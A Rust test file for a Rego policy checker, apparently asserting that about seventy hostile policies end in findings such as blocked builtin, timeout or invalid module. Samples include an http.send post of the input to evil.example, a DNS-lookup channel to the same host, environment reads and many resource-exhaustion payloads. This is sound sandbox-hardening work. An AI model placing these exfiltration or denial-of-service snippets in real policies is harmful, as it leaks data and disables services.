//! Hostile policies: each named after what it copies, and each ends in a finding, soon, and never in silence.

use std::time::{Duration, Instant};

use crate::checked;

/// The team that the policies are asked about.
const WEB: &str = "\
apiVersion: charter/v1
kind: Team
metadata: {name: web}
spec: {members: [\"user:ana\"]}
";

/// What is called what, and what comes of it; the body of a rule `deny`, where the text is no module of its own.
const HOSTILE: &[(&str, &str, &str)] = &[
    // Reaching out.
    (
        "exfiltration",
        "http.send({\"method\": \"post\", \"url\": \"https://evil.example/\", \"body\": input})",
        "policy-builtin",
    ),
    (
        "a lookup of names as a channel",
        "net.lookup_ip_addr(sprintf(\"%s.evil.example\", [input.metadata.name]))",
        "policy-builtin",
    ),
    ("reading the environment", "opa.runtime().env.HOME", "policy-builtin"),
    ("a rule that fires on a date", "time.now_ns() > 1893456000000000000", "policy-builtin"),
    ("a coin that decides", "rand.intn(\"a\", 2) == 1", "policy-builtin"),
    ("a random id", "uuid.rfc4122(\"a\") != \"\"", "policy-builtin"),
    ("words on the operator's terminal", "print(\"\\u001b[2J\")", "policy-builtin"),
    ("a token that is trusted", "io.jwt.decode(input.metadata.name)[1].admin", "policy-builtin"),
    ("a module inside of a module", "rego.parse_module(\"x\", \"package x\")", "policy-builtin"),
    ("a trace that is no finding", "trace(\"here\")", "policy-builtin"),
    ("a walk through all there is", "walk(input, [_, x])\nx == \"web\"", "policy-builtin"),
    ("an id of the machine", "uuid.parse(input.metadata.name).version == 4", "policy-builtin"),
    ("a yaml bomb", "yaml.unmarshal(input.metadata.name)", "policy-builtin"),
    (
        "a builtin put in the place of another",
        "package a\ndeny contains \"a\" if { startswith(input.kind, \"T\") with startswith as http.send }",
        "policy-invalid",
    ),
    (
        "a builtin of one's own name",
        "package a\nstartswith(x, y) := time.now_ns()\ndeny contains \"a\" if startswith(input.kind, \"T\") > 0",
        "policy-builtin",
    ),
    ("a builtin in a template of text", "sprintf(\"%v\", [opa.runtime()]) != \"\"", "policy-builtin"),
    (
        "a builtin in a default",
        "package a\ndefault now := time.now_ns()\ndeny contains \"a\" if now > 0",
        "policy-invalid",
    ),
    (
        "a builtin by the name of its package",
        "package a\nimport data.time as clock\ndeny contains \"a\" if clock.now_ns() > 0",
        "policy-builtin",
    ),
    // Never firing, in silence.
    ("a call without what it needs", "startswith(input.kind)", "policy-builtin"),
    ("a text that does not fit", "sprintf(\"%s %s\", [input.kind]) != \"\"", "policy-builtin"),
    (
        "a set by key",
        "package a\ndeny contains \"a\" if bad.Team\nbad[kind] contains 1 if kind := input.kind",
        "policy-invalid",
    ),
    ("a rule that is a function", "package a\ndeny(x) := \"a\" if input.kind == x", "policy-invalid"),
    ("a rule that is a mapping", "package a\ndeny[name] := \"a\" if name := input.metadata.name", "policy-invalid"),
    ("a rule that is a number", "package a\ndeny := 1 if input.kind == \"Team\"", "policy-error"),
    ("a rule that is a default", "package a\ndefault deny := false\ndeny if input.kind == \"Team\"", "policy-invalid"),
    ("a value and a set of one name", "package a\ndeny contains \"a\"\ndeny := \"b\"", "policy-invalid"),
    ("an import that is not there", "package a\nimport data.lib.x\ndeny contains \"a\" if x.y", "policy-invalid"),
    ("the input given a value", "input := {\"kind\": \"Role\"}", "policy-invalid"),
    ("a kind that is not there", "data.charter.resources.Teem", "policy-invalid"),
    ("a builtin that is not there", "crypto.sha256(input.kind) == \"\"", "policy-builtin"),
    ("a builtin by an alias", "f := http.send", "policy-invalid"),
    (
        "a builtin in a helper that nothing calls",
        "package a\ndeny contains \"a\" if false\nhelper if http.send({})",
        "policy-builtin",
    ),
    ("a builtin in a comprehension in an index", "input[[x | x := time.now_ns()][0]]", "policy-builtin"),
    // Never ending.
    (
        "a rule that asks itself",
        "package a\ndeny contains x if { x := loop }\nloop := x if { x := loop }",
        "policy-invalid",
    ),
    (
        "functions that call one another",
        "package a\ndeny contains \"a\" if f(1)\nf(x) if g(x)\ng(x) if f(x)",
        "policy-invalid",
    ),
    (
        "a product of ranges",
        "input.kind == \"Team\"\nsome a in numbers.range(1, 9999)\nsome b in numbers.range(1, 9999)\na * b < 0",
        "policy-timeout",
    ),
    (
        "a comprehension of comprehensions",
        "input.kind == \"Team\"\nn := numbers.range(1, 1000)\ncount({[a, b, c] | some a in n; some b in n; some c in n}) < 0",
        "policy-timeout",
    ),
    (
        "every pair",
        "input.kind == \"Team\"\nn := numbers.range(1, 5000)\nevery a in n { every b in n { a + b > 0 } }\nfalse",
        "policy-timeout",
    ),
    ("a chain of rules without an end", CHAIN, "policy-invalid"),
    (
        "a range in each step of a pattern",
        "input.kind == \"Team\"\nsome a in numbers.range(1, 99999)\nglob.match(sprintf(\"*%d*\", [a]), [], concat(\"\", [\"x\" | some _ in numbers.range(1, 9999)]))",
        "policy-timeout",
    ),
    (
        "a loop that the machine leaves and the interpreter does not",
        "package a\ndeny contains \"a\" if v == 1\nv := 1 if {\n\tinput.kind == \"Team\"\n\tsome a in numbers.range(1, 99999)\n\tsome b in numbers.range(1, 99999)\n\ta * b < 0\n} else := 2",
        "policy-timeout",
    ),
    // Filling memory.
    ("a range to the end of numbers", "count(numbers.range(0, 9223372036854775807)) > 0", "policy-builtin"),
    ("a range that a manifest names", "count(numbers.range(0, input.spec.size)) > 0", "policy-builtin"),
    ("a step of nothing", "count(numbers.range_step(0, input.spec.size, 0)) > 0", "policy-builtin"),
    ("a shift to the moon", "bits.lsh(1, 4294967295) > 0", "policy-builtin"),
    (
        "patches upon patches",
        "input.kind == \"Team\"\npatches := [{\"op\": \"copy\", \"from\": \"/a\", \"path\": sprintf(\"/a/%d\", [n])} | some n in numbers.range(1, 60)]\ncount(json.marshal(json.patch({\"a\": {}}, patches))) < 0",
        "policy-timeout",
    ),
    (
        "a text a million times",
        "input.kind == \"Team\"\nx := concat(\"x\", numbers.range(1, 9223372036854775807))\nx == \"\"",
        "policy-builtin",
    ),
    ("all addresses there are", "count(net.cidr_expand(\"::/0\")) > 0", "policy-builtin"),
    ("words that double", DOUBLING, "policy-timeout"),
    (
        "a regular expression of repetitions",
        "regex.match(\"(((((a{1,99}){1,99}){1,99}){1,99}){1,99}){1,99}\", input.kind)",
        "policy-timeout",
    ),
    (
        "a text that is put into itself",
        "a := \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\nb := replace(a, \"a\", a)\nc := replace(b, \"a\", b)\nreplace(c, \"a\", c) == input.kind",
        "policy-timeout",
    ),
    (
        "a text that is put into itself, for the interpreter",
        "x := [replace(c, \"a\", c) | a := \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"; b := replace(a, \"a\", a); c := replace(b, \"a\", b)]\nx == input.kind",
        "policy-timeout",
    ),
    (
        "replacements of replacements",
        "a := \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\nb := replace(a, \"a\", a)\nstrings.replace_n({\"a\": b, \"aa\": b, \"aaa\": b}, b) == input.kind",
        "policy-timeout",
    ),
    (
        "a match in the place of each match",
        "a := \"$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0\"\nb := replace(a, \"$\", a)\nc := replace(b, \"0\", b)\nregex.replace(c, \".\", c) == input.kind",
        "policy-timeout",
    ),
    (
        "one text many times in a list",
        "a := concat(\"\", [\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\" | some _ in numbers.range(1, 30000)])\nconcat(a, [a | some _ in numbers.range(1, 1000)]) == input.kind",
        "policy-timeout",
    ),
    ("a column as wide as the world", "sprintf(\"%9999999999d\", [1]) == input.kind", "policy-timeout"),
    ("decimals without an end", "f := \"%.999999999f\"\nsprintf(f, [1.5]) == input.kind", "policy-timeout"),
    ("a list of lists of lists, printed", LISTS, "policy-timeout"),
    ("a list of lists of lists, put together", UNIONS, "policy-timeout"),
    ("a product of all there is", "product(numbers.range(1, 100000)) == input.kind", "policy-timeout"),
    ("a number by its exponent", "to_number(\"1e99999999\") == input.kind", "policy-timeout"),
    ("a number inside of a text", "json.unmarshal(\"[1e99999999]\") == input.kind", "policy-timeout"),
    (
        "a text in pieces of pieces",
        "a := \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\nb := replace(a, \"a\", a)\nc := replace(b, \"a\", b)\ncount(split(concat(\"\", [c, c]), \"\")) < 0",
        "policy-timeout",
    ),
    (
        "every prefix of every text",
        "a := numbers.range(1, 20000)\nb := [sprintf(\"%d\", [n]) | some n in a]\nc := [sprintf(\"x%d\", [n]) | some n in a]\nstrings.any_prefix_match(b, c)",
        "policy-timeout",
    ),
    // Odd answers.
    (
        "a flood of findings",
        "package a\ndeny contains sprintf(\"%d\", [n]) if some n in numbers.range(1, 20000)",
        "policy-denied",
    ),
    (
        "a huge message",
        "package a\ndeny contains concat(\",\", [\"xxxxxxxxxxxxxxxx\" | some n in numbers.range(1, 20000)]) if input.kind == \"Team\"",
        "policy-denied",
    ),
    ("an answer that is no text", "package a\ndeny contains {{1}} if input.kind == \"Team\"", "policy-error"),
    (
        "two answers to one question",
        "package a\ndeny contains f(1) if input.kind == \"Team\"\nf(x) := \"a\" if x > 0\nf(x) := \"b\" if x < 2",
        "policy-error",
    ),
    ("a rule that only is true", "package a\ndeny if input.kind == \"Team\"", "policy-invalid"),
    ("a name of what is not there", "data.exceptions.web", "policy-invalid"),
    ("the organisation written over", "package charter\ndeny contains \"a\"", "policy-invalid"),
    ("a policy of the library written over", "package library.wildcard_expires\ndeny contains \"a\"", "policy-invalid"),
    ("a rule below a rule", "package a\ndeny.web contains \"a\" if input.kind == \"Team\"", "policy-invalid"),
    ("the input written over", "input.kind with input as {\"kind\": \"Role\"}", "policy-invalid"),
    // Texts that are no modules.
    ("a tower of brackets", TOWER, "policy-invalid"),
    ("an endless line", LINE, "policy-invalid"),
    ("nothing at all", "package", "policy-invalid"),
    ("rules of yesterday", "package a\ndeny[msg] { msg := \"a\" }", "policy-v0"),
    ("a number of a million digits", "input.size > 1e999999999", "policy-invalid"),
];

const DOUBLING: &str = "DOUBLING";
const LISTS: &str = "LISTS";
const UNIONS: &str = "UNIONS";
const CHAIN: &str = "CHAIN";
const TOWER: &str = "TOWER";
const LINE: &str = "LINE";

fn module(text: &str) -> String {
    let body = match text {
        DOUBLING => {
            let lines = (1..40).map(|n| format!("x{n} := concat(\"\", [x{0}, x{0}])\n", n - 1));
            format!("x0 := input.kind\n{}x39 == \"\"", lines.collect::<String>())
        }
        LISTS => {
            let lines = (1..50).map(|n| format!("x{n} := [x{0}, x{0}]\n", n - 1));
            format!("x0 := [input.kind]\n{}sprintf(\"%v\", [x49]) == \"\"", lines.collect::<String>())
        }
        UNIONS => {
            let lines = (1..50).map(|n| format!("x{n} := {{\"a\": x{0}, \"b\": x{0}}}\n", n - 1));
            format!("x0 := {{\"a\": input.kind}}\n{}object.union(x49, x48) == {{}}", lines.collect::<String>())
        }
        CHAIN => {
            let rules = (0..5_000).map(|n| format!("r{n} if r{}\n", n + 1)).collect::<String>();
            return format!("package a\ndeny contains \"a\" if r0\n{rules}r5000 if input.kind == \"Team\"\n");
        }
        TOWER => format!("x := {}1{}", "[".repeat(50_000), "]".repeat(50_000)),
        LINE => format!("x := \"{}\"", "x".repeat(100_000)),
        _ if text.starts_with("package") => return text.to_owned(),
        _ => text.to_owned(),
    };
    format!("package hostile\n\ndeny contains \"it fired\" if {{\n{body}\n}}\n")
}

/// Checks a policy beside a team, and says what was found and how long it took.
fn found(text: &str) -> (Vec<String>, Duration) {
    let began = Instant::now();
    let found = checked(&[("web.yaml", WEB.as_bytes()), ("policies/hostile.rego", module(text).as_bytes())]);
    let codes = found.report.findings.iter().map(|finding| finding.code.as_str().to_owned()).collect();
    (codes, began.elapsed())
}

#[test]
fn hostile_policies_end_in_findings() {
    let mut wrong = Vec::new();
    for (name, text, code) in HOSTILE {
        let (codes, taken) = found(text);
        // Far more than the limits allow on a busy machine.
        if !codes.iter().any(|found| found == code) || taken > Duration::from_secs(120) {
            wrong.push(format!("{name}: {codes:?} after {taken:?}, not {code}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let names: std::collections::BTreeSet<&str> = HOSTILE.iter().map(|(name, ..)| *name).collect();
    assert!(names.len() >= 60 && names.len() == HOSTILE.len(), "{} names", names.len());
}

#[test]
fn what_policies_say_is_bounded() {
    for text in ["a flood of findings", "a huge message"] {
        let (_, module, _) = HOSTILE.iter().find(|(name, ..)| *name == text).unwrap();
        let files = [("web.yaml", WEB.as_bytes()), ("policies/hostile.rego", module.as_bytes())];
        let report = checked(&files).report;
        assert!(report.findings.len() <= 1_001, "{text}: {}", report.findings.len());
        assert!(report.findings.iter().all(|finding| finding.message.len() < 5_000), "{text}");
    }
}

#[test]
fn a_policy_that_is_whole_fires() {
    assert_eq!(found("input.kind == \"Team\"").0, ["policy-denied"]);
}
